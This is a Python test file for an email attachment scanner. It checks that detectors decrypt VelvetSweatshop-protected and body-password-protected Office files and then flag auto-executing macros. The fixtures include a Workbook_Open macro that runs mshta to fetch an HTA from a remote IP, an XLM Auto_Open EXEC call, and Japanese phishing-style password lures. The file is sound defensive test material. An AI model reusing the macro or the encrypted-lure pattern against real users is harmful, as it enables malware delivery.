"""Encrypted Office documents: VelvetSweatshop and body passwords open them for the other detectors."""

from kakuri.detect.office_encryption import OfficeEncryption
from kakuri.detect.office_macros import OfficeMacros
from kakuri.detect.office_xlm import OfficeXlm
from kakuri.unpack.passwords import BodyPasswords
from tests.builders_office import (EMOTET_LIKE_MODULES, docx, encrypt_ooxml, office_findings, symbols_of, xlsx,
                                   xlsx_by_xlsxwriter)

DETECTORS = [OfficeEncryption(), OfficeMacros(), OfficeXlm()]


def test_velvetsweatshop_workbook_is_decrypted_and_its_macro_scanned():
    xlsm = xlsx(macro={"ThisWorkbook": "Sub Workbook_Open()\n Shell \"mshta http://198.51.100.4/a.hta\"\nEnd Sub\n"})
    findings = office_findings(DETECTORS, [("請求書.xlsm", encrypt_ooxml(xlsm, "VelvetSweatshop"))])
    assert {"OFFICE_DEFAULT_PASSWORD", "MACRO_PRESENT", "MACRO_AUTOEXEC", "MACRO_SUSPICIOUS"} <= symbols_of(findings)
    macro = next(f for f in findings if f.symbol == "MACRO_AUTOEXEC")
    assert macro.part == "請求書.xlsm/[decrypted] 請求書.xlsm"


def test_velvetsweatshop_xlm_workbook_is_decrypted():
    cells = '<row r="1"><c r="A1"><f>EXEC("cmd /c calc")</f></c></row>'
    data = encrypt_ooxml(xlsx(macrosheet=cells, defined_names='<definedName name="Auto_Open">Macro1!$A$1</definedName>'),
                         "VelvetSweatshop")
    assert {"OFFICE_DEFAULT_PASSWORD", "MACRO_XLM", "MACRO_AUTOEXEC"} <= symbols_of(office_findings(DETECTORS, [("a.xlsm", data)]))


def test_document_with_password_in_the_mail_body_is_opened():
    data = encrypt_ooxml(docx(macro=EMOTET_LIKE_MODULES), "Kx81pq")
    findings = office_findings(DETECTORS, [("doc.docm", data)], body="添付ファイルのパスワード: Kx81pq\n",
                               password_sources=[BodyPasswords()])
    assert {"OFFICE_PASSWORD_IN_MESSAGE", "MACRO_AUTOEXEC"} <= symbols_of(findings)


def test_document_with_unknown_password_is_encrypted_and_unscanned():
    data = encrypt_ooxml(docx(macro=EMOTET_LIKE_MODULES), "not-in-the-mail")
    findings = office_findings(DETECTORS, [("doc.docm", data)], password_sources=[BodyPasswords()])
    assert symbols_of(findings) == {"OFFICE_ENCRYPTED"}


def test_plain_workbook_is_not_encrypted():
    assert office_findings(DETECTORS, [("見積.xlsx", xlsx_by_xlsxwriter())]) == []


def test_excessive_key_derivation_rounds_are_not_attempted():
    data = encrypt_ooxml(xlsx_by_xlsxwriter(), "VelvetSweatshop").replace(b'spinCount="100000"', b'spinCount="999999"')
    findings = office_findings([OfficeEncryption()], [("a.xlsx", data)])
    assert symbols_of(findings) == {"OFFICE_ENCRYPTED"} and findings[0].evidence["spin_count"] == "999999"


def test_encrypted_powerpoint_97_is_recognised_by_its_current_user_token():
    from tests.builders_office import ppt_with_objects

    findings = office_findings([OfficeEncryption()], [("a.ppt", ppt_with_objects([], encrypted=True))])
    assert symbols_of(findings) == {"OFFICE_ENCRYPTED"}
    assert office_findings([OfficeEncryption()], [("a.ppt", ppt_with_objects([]))]) == []


def test_real_excel_workbooks_open_with_velvetsweatshop_without_msoffcrypto_key_check():
    from tests.real_office import real_file

    for method in ("xls", "xlsb", "xlsm"):  # RC4 CryptoAPI and ECMA-376 standard (AES-128), as Excel wrote them
        data = real_file(f"oletools:tests/test-data/encrypted/autostart-encrypt-standardpassword.{method}")
        findings = office_findings(DETECTORS, [(f"a.{method}", data)])
        assert {"OFFICE_DEFAULT_PASSWORD", "MACRO_AUTOEXEC"} <= symbols_of(findings), method


def test_many_body_candidates_are_tried_only_where_a_candidate_is_cheap():
    from kakuri.unpack.passwords import BodyPasswords

    body = "".join(f"パスワード: Pw{n:02d}xq\n" for n in range(8))
    agile = encrypt_ooxml(docx(macro=EMOTET_LIKE_MODULES), "Pw07xq")  # 8th candidate: past max_candidates
    findings = office_findings([OfficeEncryption()], [("a.docm", agile)], body=body, password_sources=[BodyPasswords()])
    assert symbols_of(findings) == {"OFFICE_ENCRYPTED"} and findings[0].evidence["tried"] == "3"


def test_real_workbook_encrypted_with_the_password_given_in_the_mail_is_opened():
    import io

    import msoffcrypto

    from kakuri.unpack.passwords import BodyPasswords
    from tests.real_office import real_file

    office_file = msoffcrypto.OfficeFile(io.BytesIO(real_file("oletools:tests/test-data/encrypted/autostart-encrypt-standardpassword.xlsm")))
    office_file.load_key(password="VelvetSweatshop")
    excel_output = io.BytesIO()
    office_file.decrypt(excel_output)  # the .xlsm Excel wrote, re-locked below with a lure's password
    findings = office_findings(DETECTORS, [("請求書.xlsm", encrypt_ooxml(excel_output.getvalue(), "8jT2-wq"))],
                               body="ご確認ください。\nパスワード：8jT2-wq\n", password_sources=[BodyPasswords()])
    assert {"OFFICE_PASSWORD_IN_MESSAGE", "MACRO_AUTOEXEC"} <= symbols_of(findings)
